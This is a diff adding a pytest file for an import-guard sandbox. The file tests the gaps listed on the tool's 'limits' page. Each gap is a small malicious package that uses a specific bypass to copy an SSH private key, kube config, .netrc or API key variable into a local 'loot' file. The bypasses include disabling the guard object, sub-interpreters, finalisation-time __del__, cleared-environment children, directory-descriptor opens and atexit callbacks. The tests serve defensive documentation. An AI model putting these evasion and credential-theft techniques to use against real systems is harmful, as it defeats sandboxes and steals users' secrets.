@@ -1,0 +1,159 @@
+"""Each gap that docs/explanation/limits.md names and a test can show: real unguarded, a strict expected failure guarded."""
+
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+from support import envs, guarded, wheels, worlds
+
+LIMITS = Path(__file__).parents[2] / "docs/explanation/limits.md"
+IMPORTS = "import acme_gap\n"
+CALLS = "import acme_gap\n\nacme_gap.run()\n"
+# What every payload does in the end: copy the canary key to a file that anybody may write.
+STEAL = """
+import os
+home = os.path.expanduser("~")
+if os.path.exists(home + "/.canary-home"):
+    with open(home + "/.ssh/id_ed25519") as key, open(home + "/loot", "w") as loot:
+        loot.write(key.read())
+"""
+HOME = 'import os, sys\n\nHOME = os.path.expanduser("~")\nKEY, LOOT = HOME + "/.ssh/id_ed25519", HOME + "/loot"\n'
+
+
+@dataclass(frozen=True, slots=True)
+class Gap:
+    """A section of the page, the package that slips through there, and the application that uses it."""
+
+    section: str
+    module: str
+    app: str = IMPORTS
+    name: str = "acme-gap"
+    policy: str | None = None
+    stolen: str = "kept:ssh"
+
+
+GAPS = {
+    "guard-object": Gap(
+        "Python code that attacks the guard",
+        'import sys\nif "importguard.guard" in sys.modules:\n'
+        f'    sys.modules["importguard.guard"].guard.enforcer.mode = "observe"\n{STEAL}',
+    ),
+    "sub-interpreter": Gap(
+        "Interpreters that the guard isn't in",
+        f"""try:
+    import _interpreters as interpreters
+except ImportError:
+    import _xxsubinterpreters as interpreters
+there = interpreters.create()
+getattr(interpreters, "exec", None) and interpreters.exec(there, {STEAL!r}) or interpreters.run_string(there, {STEAL!r})
+""",
+    ),
+    "finalisation": Gap(
+        "Interpreters that the guard isn't in",
+        HOME
+        + """import codecs, posix
+
+
+class Late:
+    def __call__(self, name):
+        return None
+
+    def __del__(self, open=posix.open, read=posix.read, write=posix.write, key=KEY, loot=LOOT):
+        write(open(loot, 65, 0o600), read(open(key, 0), 4096))
+
+
+codecs.register(Late())
+""",
+    ),
+    "cleared-environment": Gap(
+        "A child whose environment was cleared by something that isn't Python",
+        HOME
+        + f'import subprocess\n\n\ndef run():\n    subprocess.run(["/usr/bin/env", "-i", "HOME=" + HOME, sys.executable, "-c", {STEAL!r}])\n',
+        CALLS,
+    ),
+    "reading-variables": Gap(
+        "Operations that raise no audit event",
+        HOME + 'with open(HOME + "/loot", "w") as loot:\n    loot.write(os.environ["ACME_API_KEY"])\n',
+        policy='version = 1\n[package.acme-gap]\nimport.deny = ["env.read:*"]\n',
+        stolen="kept:variable",
+    ),
+    "directory-descriptor": Gap(
+        "Opens relative to a directory",
+        HOME
+        + 'folder = os.open(HOME + "/.kube", os.O_RDONLY)\nkey = os.open("config", os.O_RDONLY, dir_fd=folder)\n'
+        + 'with open(LOOT, "wb") as loot:\n    loot.write(os.read(key, 4096))\n',
+        stolen="kept:kube",
+    ),
+    "forged-name": Gap("Forged names", f'exec({STEAL!r}, {{"__name__": "__main__"}})\n'),
+    "builtin-callback": Gap(
+        "Callbacks made of builtins",
+        HOME + "import atexit, shutil\n\n\ndef run():\n    atexit.register(shutil.copyfile, KEY, LOOT)\n",
+        CALLS,
+    ),
+    "poisoned-deputy": Gap(
+        "Deputies that were poisoned",
+        HOME
+        + 'def run():\n    with open(HOME + "/.netrc") as netrc, open(LOOT, "w") as loot:\n        loot.write(netrc.read())\n',
+        CALLS,
+        name="requests",
+        stolen="kept:netrc",
+    ),
+    "written-by-a-child": Gap(
+        "The application",
+        f"import subprocess, sys\n\n\ndef run():\n    code = \"open('extra.py', 'w').write(\" + repr({STEAL!r}) + \")\"\n"
+        "    subprocess.run([sys.executable, '-c', code], check=True)\n    import extra\n",
+        CALLS,
+    ),
+}
+PLAIN = {"plain": Gap("", STEAL), "plain-call": Gap("", f"def run():\n    exec({STEAL!r})\n", CALLS)}
+
+
+@pytest.fixture
+def perform(tmp_path, empty_environment, interpreter):
+    """A function that runs a Gap's application in a world of its own and returns what came of it."""
+
+    def perform(gap, mode):
+        environment = envs.copy(empty_environment, tmp_path / "env")
+        wheel = wheels.Wheel(gap.name, "1.0.1", {"acme_gap.py": gap.module})
+        envs.install(environment, wheel, folder=tmp_path / "wheels")
+        with worlds.furnished(tmp_path / "world", environment) as world:
+            (world.project / "app.py").write_text(gap.app)
+            outcome = guarded.run(world, [environment.python, "app.py"], mode=mode, policy=gap.policy)
+            return outcome, world.evidence()
+
+    return perform
+
+
+@pytest.mark.parametrize("gap", GAPS.values(), ids=GAPS)
+def test_gap_is_one_that_works_without_the_guard(gap, perform):
+    """The control: unguarded, the canary is stolen in just that way."""
+    outcome, evidence = perform(gap, guarded.UNGUARDED)
+
+    assert gap.stolen in evidence, outcome.story()
+
+
+@pytest.mark.parametrize("gap", PLAIN.values(), ids=PLAIN)
+def test_theft_without_a_gap_is_stopped(gap, perform):
+    """The other control: who just opens the key, while being imported or called, is refused."""
+    outcome, evidence = perform(gap, guarded.RECOMMENDED)
+
+    assert gap.stolen not in evidence
+    assert outcome.decisions(capability="fs.read", owner="acme-gap", verdict="deny"), outcome.story()
+
+
+@pytest.mark.xfail(reason="docs/explanation/limits.md", raises=AssertionError, strict=True)
+@pytest.mark.parametrize("gap", GAPS.values(), ids=GAPS)
+def test_gap_is_closed(gap, perform):
+    """Under the recommended preset, or the gap's own policy, the canary stays where it is."""
+    outcome, evidence = perform(gap, guarded.RECOMMENDED)
+
+    if not any(record["event"] == "armed" for record in outcome.records):
+        pytest.fail("the run was not guarded: " + outcome.story(), pytrace=False)
+    assert gap.stolen not in evidence, outcome.story()
+
+
+def test_page_has_the_sections_that_the_gaps_point_to():
+    """Each gap has its section on the page."""
+    headings = {line.lstrip("#").strip() for line in LIMITS.read_text().splitlines() if line.startswith("#")}
+
+    assert {gap.section for gap in GAPS.values()} <= headings
